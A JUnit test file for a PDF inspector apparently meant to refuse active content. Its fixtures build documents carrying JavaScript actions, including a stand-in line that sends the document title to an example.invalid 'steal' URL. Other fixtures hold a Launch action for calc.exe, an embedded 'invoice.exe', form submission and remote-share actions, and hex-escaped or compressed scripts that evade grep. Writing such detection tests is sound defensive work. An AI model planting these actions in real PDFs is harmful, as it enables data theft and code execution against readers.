package org.reviewdesk.documents.inspection;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import java.util.stream.Stream;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDJavascriptNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.interactive.action.PDAction;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionImportData;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionRemoteGoTo;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionSubmitForm;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
import org.apache.pdfbox.pdmodel.interactive.action.PDFormFieldAdditionalActions;
import org.apache.pdfbox.pdmodel.interactive.action.PDPageAdditionalActions;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotation;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationFileAttachment;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;
import org.apache.pdfbox.pdmodel.interactive.form.PDTextField;
import org.junit.jupiter.api.Named;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class ActiveContentTest extends InspectorHarness {

    private static final String SCRIPT = "app.launchURL('http://example.invalid/steal?' + this.info.Title)";

    static Stream<Arguments> activeContent() {
        return Stream.of(
                refused("JavaScript run on opening", RefusalReason.JAVASCRIPT,
                        document -> document.getDocumentCatalog().setOpenAction(new PDActionJavaScript(SCRIPT))),
                refused("document-level JavaScript in the names tree", RefusalReason.JAVASCRIPT, document -> {
                    PDJavascriptNameTreeNode scripts = new PDJavascriptNameTreeNode();
                    scripts.setNames(Map.of("init", new PDActionJavaScript(SCRIPT)));
                    PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
                    names.setJavascript(scripts);
                    document.getDocumentCatalog().setNames(names);
                }),
                refused("JavaScript when a page opens (page /AA)", RefusalReason.JAVASCRIPT, document -> {
                    PDPageAdditionalActions actions = new PDPageAdditionalActions();
                    actions.setO(new PDActionJavaScript(SCRIPT));
                    document.getPage(0).setActions(actions);
                }),
                refused("JavaScript behind a link", RefusalReason.JAVASCRIPT,
                        document -> link(document, new PDActionJavaScript(SCRIPT))),
                refused("JavaScript in a form field's keystroke action", RefusalReason.JAVASCRIPT, document -> {
                    PDAcroForm form = new PDAcroForm(document);
                    document.getDocumentCatalog().setAcroForm(form);
                    PDTextField field = new PDTextField(form);
                    field.setPartialName("name");
                    PDFormFieldAdditionalActions actions = new PDFormFieldAdditionalActions();
                    actions.setK(new PDActionJavaScript(SCRIPT));
                    field.getCOSObject().setItem(COSName.AA, actions.getCOSObject());
                    form.getFields().add(field);
                }),
                refused("JavaScript in the catalog's additional actions", RefusalReason.JAVASCRIPT, document -> {
                    COSDictionary actions = new COSDictionary();
                    actions.setItem(COSName.getPDFName("WC"), new PDActionJavaScript(SCRIPT));
                    document.getDocumentCatalog().getCOSObject().setItem(COSName.AA, actions);
                }),
                refused("a Launch action", RefusalReason.LAUNCH_ACTION, document -> {
                    PDActionLaunch launch = new PDActionLaunch();
                    launch.setF("C:\\Windows\\System32\\calc.exe");
                    document.getDocumentCatalog().setOpenAction(launch);
                }),
                refused("an embedded file", RefusalReason.EMBEDDED_FILE, document -> {
                    PDEmbeddedFilesNameTreeNode files = new PDEmbeddedFilesNameTreeNode();
                    files.setNames(Map.of("invoice.exe", attachment(document)));
                    PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
                    names.setEmbeddedFiles(files);
                    document.getDocumentCatalog().setNames(names);
                }),
                refused("a file attachment annotation", RefusalReason.EMBEDDED_FILE, document -> {
                    PDAnnotationFileAttachment annotation = new PDAnnotationFileAttachment();
                    annotation.setFile(attachment(document));
                    annotation.setRectangle(new PDRectangle(100, 100, 20, 20));
                    annotate(document, annotation);
                }),
                refused("an XFA form", RefusalReason.XFA_FORM, document -> {
                    PDAcroForm form = new PDAcroForm(document);
                    form.getCOSObject().setItem(COSName.XFA, new COSString("<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"/>"));
                    document.getDocumentCatalog().setAcroForm(form);
                }),
                refused("a RichMedia annotation", RefusalReason.RICH_MEDIA, document -> {
                    COSDictionary annotation = new COSDictionary();
                    annotation.setItem(COSName.TYPE, COSName.ANNOT);
                    annotation.setItem(COSName.SUBTYPE, COSName.getPDFName("RichMedia"));
                    annotation.setItem(COSName.RECT, new PDRectangle(100, 100, 200, 200).getCOSArray());
                    COSArray annots = new COSArray();
                    annots.add(annotation);
                    document.getPage(0).getCOSObject().setItem(COSName.ANNOTS, annots);
                }),
                refused("a SubmitForm action", RefusalReason.SUBMIT_FORM, document -> {
                    PDActionSubmitForm submit = new PDActionSubmitForm();
                    submit.getCOSObject().setString(COSName.F, "http://example.invalid/collect");
                    link(document, submit);
                }),
                refused("a GoToR action", RefusalReason.REMOTE_GO_TO, document -> {
                    PDActionRemoteGoTo remote = new PDActionRemoteGoTo();
                    remote.getCOSObject().setString(COSName.F, "\\\\attacker.invalid\\share\\other.pdf");
                    link(document, remote);
                }),
                refused("an ImportData action", RefusalReason.IMPORT_DATA, document -> {
                    PDActionImportData importData = new PDActionImportData();
                    importData.getCOSObject().setString(COSName.F, "data.fdf");
                    link(document, importData);
                }));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("activeContent")
    void activeContentIsRefused(Consumer<PDDocument> change, RefusalReason expected) throws IOException {
        try (PDDocument document = Fixtures.document(1)) {
            change.accept(document);

            assertRefused(inspect("active.pdf", Fixtures.save(document)), expected);
        }
    }

    @ParameterizedTest(name = "{0}, in object streams")
    @MethodSource("activeContent")
    void activeContentInsideObjectStreamsIsRefused(Consumer<PDDocument> change, RefusalReason expected) throws IOException {
        try (PDDocument document = Fixtures.document(1)) {
            change.accept(document);
            byte[] compressed = Fixtures.saveCompressed(document);

            assertRefused(inspect("active.pdf", compressed), expected);
        }
    }

    @Test
    void javaScriptInsideAnObjectStreamIsInvisibleToGrepButRefused() throws IOException {
        try (PDDocument document = Fixtures.document(1)) {
            document.getDocumentCatalog().setOpenAction(new PDActionJavaScript(SCRIPT));
            byte[] compressed = Fixtures.saveCompressed(document);
            assertThat(new String(compressed, StandardCharsets.ISO_8859_1)).doesNotContain("JavaScript").doesNotContain("/JS");

            assertRefused(inspect("hidden.pdf", compressed), RefusalReason.JAVASCRIPT);
        }
    }

    @Test
    void hexEscapedJavaScriptNamesAreRefused() {
        byte[] pdf = RawPdf.onePage()
                .object(1, "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>")
                .object(5, "<< /Type /Action /S /J#61vaScr#69pt /J#53 (app.alert\\(1\\)) >>")
                .build();
        assertThat(new String(pdf, StandardCharsets.ISO_8859_1)).doesNotContain("JavaScript").doesNotContain("/JS");

        assertRefused(inspect("escaped.pdf", pdf), RefusalReason.JAVASCRIPT);
    }

    @Test
    void javaScriptInAnObjectNothingReferencesIsRefused() {
        // not reachable from the catalog, but a viewer repairing the file, or a later script, may use it
        byte[] pdf = RawPdf.onePage().object(5, "<< /S /JavaScript /JS (app.alert\\(1\\)) >>").build();

        assertRefused(inspect("orphan.pdf", pdf), RefusalReason.JAVASCRIPT);
    }

    @Test
    void webLinksAreAcceptedAndFlagged() throws IOException {
        try (PDDocument document = Fixtures.document(1)) {
            PDActionURI uri = new PDActionURI();
            uri.setURI("https://www.gsxt.gov.cn/");
            link(document, uri);

            InspectionResult result = inspect("linked.pdf", Fixtures.save(document));

            assertAccepted(result);
            assertThat(result.flags()).containsExactly(InspectionFlag.EXTERNAL_LINKS);
        }
    }

    private static Arguments refused(String name, RefusalReason reason, Consumer<PDDocument> change) {
        return Arguments.of(Named.of(name, change), reason);
    }

    private static void link(PDDocument document, PDAction action) {
        PDAnnotationLink link = new PDAnnotationLink();
        link.setRectangle(new PDRectangle(72, 500, 200, 20));
        link.setAction(action);
        annotate(document, link);
    }

    private static void annotate(PDDocument document, PDAnnotation annotation) {
        try {
            PDPage page = document.getPage(0);
            List<PDAnnotation> annotations = new ArrayList<>(page.getAnnotations());
            annotations.add(annotation);
            page.setAnnotations(annotations);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static PDComplexFileSpecification attachment(PDDocument document) {
        try {
            PDEmbeddedFile file = new PDEmbeddedFile(document, new ByteArrayInputStream("MZ".getBytes(StandardCharsets.US_ASCII)));
            PDComplexFileSpecification specification = new PDComplexFileSpecification();
            specification.setFile("invoice.exe");
            specification.setEmbeddedFile(file);
            return specification;
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
